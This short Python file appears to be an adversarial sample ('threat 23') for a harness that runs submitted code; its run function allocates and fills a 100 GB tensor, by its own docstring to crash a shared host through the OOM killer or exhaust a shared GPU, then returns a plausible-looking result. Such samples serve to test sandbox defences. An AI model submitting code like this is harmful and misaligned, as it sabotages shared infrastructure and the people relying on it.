"""Cheat (threat 23): asks for 100 GB and touches it, to take down a shared host (OOM killer) or a
shared GPU."""
import torch


def run(x):
    hog = torch.empty(100 * (1 << 30), dtype=torch.uint8, device=x.device)
    hog.fill_(1)
    return x + hog[:1].float()
